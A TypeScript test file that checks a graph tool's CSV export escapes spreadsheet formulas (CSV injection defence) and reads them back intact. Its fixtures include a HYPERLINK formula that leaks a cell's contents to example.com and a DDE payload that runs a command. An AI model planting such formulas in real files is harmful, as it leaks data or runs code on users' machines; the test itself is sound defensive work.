// Issue 17, item 1: a third party's CSV pair whose cells are spreadsheet formulas is exported with
// every such cell escaped (a leading apostrophe), and the import reads its own escaped cells back.
import fc from "fast-check";
import { describe, expect, test } from "vitest";

import { escapeFormula, parseCsv, unescapeFormula } from "../../src/io/csv";
import { exportCsv } from "../../src/io/export-csv";
import { importCsv } from "../../src/io/import-csv";

const FORMULAS = ['=HYPERLINK("http://example.com/?leak="&A1,"click")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3"];

/** The reproduction: a CSV pair whose labels (and one key) are formulas. */
const NODES = [
  "key,label",
  `a,"${FORMULAS[0]!.replace(/"/g, '""')}"`,
  `b,${FORMULAS[1]}`,
  `c,${FORMULAS[2]}`,
  `-2+3,${FORMULAS[3]}`,
].join("\r\n");
const EDGES = ["source,target,label", "a,b,=1+1", "c,-2+3,@x"].join("\r\n");

function opened() {
  const result = importCsv(
    { name: "third-party-nodes.csv", text: NODES },
    { name: "third-party-edges.csv", text: EDGES },
  );
  if (!result.ok) throw new Error(result.problems.map((p) => p.message).join("\n"));
  return result.graph;
}

/** Every cell of every data row of a CSV file. */
const cells = (text: string) => {
  const parsed = parseCsv(text);
  if (!parsed.ok) throw new Error(parsed.message);
  return parsed.rows.slice(1).flat();
};

const DANGEROUS = /^[=+\-@\t\r]/;

describe("CSV export escapes formulas (OWASP)", () => {
  test("must show: the issue's labels are exported with a leading apostrophe in the label, key and reading columns", () => {
    const graph = opened();
    expect(graph.getNodeAttribute("a", "label")).toBe(FORMULAS[0]);
    const [nodes, edges] = exportCsv(graph);
    const nodeCells = cells(nodes.text);
    const edgeCells = cells(edges.text);
    for (const formula of FORMULAS) expect(nodeCells).toContain(`'${formula}`);
    expect(nodeCells).toContain("'-2+3"); // the key column
    expect(edgeCells).toContain("'-2+3"); // the target column
    // the reading column begins with the source's label, a formula here
    expect(edgeCells.some((c) => c.startsWith(`'${FORMULAS[0]} `))).toBe(true);
    for (const cell of [...nodeCells, ...edgeCells]) expect(cell).not.toMatch(DANGEROUS);
    expect(nodes.text).not.toMatch(/(^|,|\r\n)[=+\-@]/);
  });

  test("the import reads its own export back to the original text", () => {
    const graph = opened();
    const [nodes, edges] = exportCsv(graph);
    const back = importCsv({ name: nodes.filename, text: nodes.text }, { name: edges.filename, text: edges.text });
    if (!back.ok) throw new Error(back.problems.map((p) => p.message).join("\n"));
    expect(back.graph.nodes()).toEqual(graph.nodes());
    for (const key of graph.nodes())
      expect(back.graph.getNodeAttribute(key, "label")).toBe(graph.getNodeAttribute(key, "label"));
    expect(back.graph.edges().map((e) => back.graph.extremities(e))).toEqual(
      graph.edges().map((e) => graph.extremities(e)),
    );
  });

  test("cells that are not formulas are left as they are, apostrophes included", () => {
    for (const text of ["Rome Memorandum", "'Tis", "don't", "2012-06-07", "a-b", "", "'", "x=1"])
      expect(escapeFormula(text)).toBe(text);
    expect(escapeFormula("\tx")).toBe("'\tx");
    expect(escapeFormula("\rx")).toBe("'\rx");
    expect(escapeFormula("'=x")).toBe("''=x");
    expect(escapeFormula("''")).toBe("'''");
  });

  test("property: unescapeFormula(escapeFormula(s)) is s, and no escaped cell begins a formula", () => {
    const alphabet = fc.constantFrom("=", "+", "-", "@", "\t", "\r", "'", "a", " ", '"', ",", "\n");
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.string({ unit: alphabet })), (s) => {
        const escaped = escapeFormula(s);
        expect(unescapeFormula(escaped)).toBe(s);
        expect(escaped).not.toMatch(DANGEROUS);
      }),
      { numRuns: 2000 },
    );
  });
});
